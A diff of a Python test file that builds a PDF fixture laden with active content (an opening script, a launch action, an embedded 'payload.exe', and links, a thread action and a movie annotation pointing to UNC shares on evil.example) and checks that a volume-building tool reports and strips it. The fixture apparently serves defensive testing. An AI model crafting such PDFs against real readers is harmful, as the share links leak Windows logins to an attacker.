@@ -136,8 +136,9 @@ def test_the_preview_s_palette_is_as_close_to_the_page_as_one_chosen_from_every_
 
 
 def _with_active_content(path: Path) -> None:
-    """Add to the PDF at ``path`` a script run on opening, a page annotation that launches a program,
-    an attached file, and a web link (which is not active)."""
+    """Add to the PDF at ``path`` a script run on opening, page annotations that launch a program,
+    open other files (a red-team trial's, on a Windows network share: the reader's login is sent to
+    it) or play a movie from one, an attached file, and a web link (which is not active)."""
     with pikepdf.open(path, allow_overwriting_input=True) as pdf:
         script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('pdf')"))
         pdf.Root.OpenAction = pdf.make_indirect(script)
@@ -146,9 +147,13 @@ def _with_active_content(path: Path) -> None:
         # Links to other files, which Windows readers open on a network share, sending it the login.
         share = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil.example\\share\\x.pdf"), D=pikepdf.Array([0]))
         file = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("file://evil.example/share/y.pdf"))
+        thread = pikepdf.Dictionary(S=pikepdf.Name.Thread, F=pikepdf.String("\\\\evil.example\\share\\z.pdf"), D=0)
+        movie = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Movie, Rect=[40, 0, 50, 10],
+                                   Movie=pikepdf.Dictionary(F=pikepdf.String("\\\\evil.example\\share\\m.mov")))
         pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([
-            pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
-                                                 Rect=[0, 0, 10, 10], A=action)) for action in (launch, link, share, file)]))
+            *(pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
+                                                   Rect=[0, 0, 10, 10], A=action)) for action in (launch, link, share, file, thread)),
+            pdf.make_indirect(movie)]))
         pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ payload")
         pdf.save(path)
 
@@ -157,10 +162,10 @@ def test_active_content_is_reported_and_left_out_of_the_volume(project, tmp_path
     _with_active_content(project / "papers" / "pdf" / "paper-one.pdf")
     volume, diags = load(Project(project))
     assert volume is not None and volume.pdfs["pdf/paper-one.pdf"].active == (
-        "JavaScript", "embedded files", "launch actions", "links to other files")
+        "JavaScript", "embedded files", "launch actions", "links to other files", "media players")
     assert volume.pdfs["pdf/paper-two.pdf"].active == ()
     message = next(str(d) for d in diags.items if "paper-one.pdf holds" in str(d))
-    assert message.startswith("papers/accepted.yml:") and "embedded files and launch actions and links to other files" in message
+    assert message.startswith("papers/accepted.yml:") and "launch actions and links to other files and media players" in message
     target = tmp_path / "volume.pdf"
     write_volume_pdf(volume, project / "papers", [], target)
     with pikepdf.open(target) as written:
